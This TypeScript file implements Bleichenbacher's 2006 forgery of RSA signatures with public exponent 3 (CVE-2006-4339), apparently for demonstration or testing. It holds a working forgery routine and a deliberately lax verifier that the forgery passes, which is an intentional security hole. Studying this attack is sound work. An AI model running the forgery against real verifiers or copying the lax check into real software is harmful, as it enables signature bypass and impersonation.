import type { KeyObject } from 'node:crypto'
import { constants, publicDecrypt } from 'node:crypto'

/**
 * A «signature» of 256 bytes for any key with the exponent 3, made without its private key: the third power of it begins like a signature,
 * with a short padding and the digest, and ends in rubbish. Source: Daniel Bleichenbacher at CRYPTO 2006; CVE-2006-4339.
 */
export function cubeRootForgery(digestInfo: Uint8Array): Buffer {
  const start = Buffer.concat([Buffer.from([0, 1]), Buffer.alloc(8, 0xff), Buffer.from([0]), digestInfo])
  const least = BigInt(`0x${Buffer.concat([start, Buffer.alloc(256 - start.length)]).toString('hex')}`)
  const root = cubeRoot(least) + 1n
  return Buffer.from(root.toString(16).padStart(512, '0'), 'hex')
}

/** The check that such a forgery fools: it reads the digest behind the padding and does not look at what follows. */
export function passesLaxCheck(signature: Buffer, { publicKey, digestInfo }: { publicKey: KeyObject; digestInfo: Buffer }): boolean {
  const opened = publicDecrypt({ key: publicKey, padding: constants.RSA_NO_PADDING }, signature).toString('latin1')
  const match = /^\0\x01\xff{8,}\0/.exec(opened)
  return match !== null && opened.slice(match[0].length).startsWith(digestInfo.toString('latin1'))
}

/** The largest number whose third power is not above the given one. */
function cubeRoot(value: bigint): bigint {
  let low = 0n
  let high = 1n << 700n
  while (low < high) {
    const middle = (low + high + 1n) / 2n
    if (middle ** 3n <= value) low = middle
    else high = middle - 1n
  }
  return low
}
